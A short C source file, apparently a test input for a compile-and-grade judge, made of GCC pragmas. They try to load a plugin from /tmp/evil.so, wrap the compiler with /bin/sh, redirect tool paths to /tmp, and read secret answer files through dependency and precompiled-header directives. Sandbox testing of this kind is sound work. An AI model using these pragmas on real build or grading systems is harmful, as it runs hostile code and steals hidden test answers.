#pragma GCC optimize("-fplugin=/tmp/evil.so")
#pragma GCC optimize("-wrapper,/bin/sh")
#pragma GCC target("-B/tmp")
#pragma GCC dependency "@secrets@/secret/001.ans" BREACH newer
#pragma GCC poison main
#pragma push_macro("x")
#pragma GCC pch_preprocess "@secrets@/secret/001.ans"
int other(void) { return 0; }
